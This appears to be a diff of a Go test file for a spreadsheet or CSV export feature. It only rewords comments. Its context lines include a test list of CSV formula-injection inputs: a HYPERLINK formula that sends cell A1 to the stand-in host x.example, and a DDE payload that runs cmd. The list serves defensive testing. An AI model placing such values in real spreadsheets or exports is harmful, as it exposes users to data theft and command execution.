@@ -18,7 +18,7 @@ import (
 	"github.com/idleseat/idleseat/shared/sandbox"
 )
 
-// The variable awkward has names of people and departments that cause trouble in spreadsheets. A spreadsheet could
+// The variable "awkward" has names of people and departments that cause trouble in spreadsheets. A spreadsheet could
 // evaluate them, split them, or show them in the wrong encoding.
 var awkward = []string{
 	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
@@ -98,7 +98,7 @@ type spreadCell struct {
 	} `xml:"urn:oasis:names:tc:opendocument:xmlns:text:1.0 p"`
 }
 
-// The method value returns the type and the value of a cell.
+// The method "value" returns the type and the value of a cell.
 func (c *spreadCell) value() string {
 	switch c.Type {
 	case "float":
@@ -115,7 +115,7 @@ func (c *spreadCell) value() string {
 	return fmt.Sprintf("%+v", c)
 }
 
-// The method opened returns the cells of some CSV files, by the name of the file. The argument "written" is the
+// The method "opened" returns the cells of some CSV files, by the name of the file. The argument "written" is the
 // separator in the files. LibreOffice opens the files with the settings of the locale, and expects the separator
 // "expected".
 func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
